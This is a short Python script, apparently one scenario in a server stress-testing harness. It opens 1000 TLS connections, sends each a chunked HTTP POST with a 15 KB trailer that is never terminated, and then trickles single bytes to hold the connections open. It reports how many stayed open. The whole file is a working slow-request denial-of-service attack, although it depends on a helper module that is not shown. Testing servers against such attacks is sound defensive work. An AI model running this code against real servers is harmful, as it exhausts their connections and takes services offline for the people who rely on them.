"""Chunked bodies whose trailer section is as large as allowed and never ends."""

from attack import Attack, still_open

ATTACK = Attack()
CONNECTIONS = 1000


async def run(target):
    begun = (b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n"
             + b"X-Trailer: " + b"x" * 15_000)
    opened = await target.many(CONNECTIONS, lambda _: target.tls())
    await target.one_after_another(opened, begun, 0.004)
    while target.left() > 0:
        await target.one_after_another(opened, b"x", 0.001)
    return f"{len(opened)} connections with 15 KB of a trailer, {still_open(opened)} stayed"
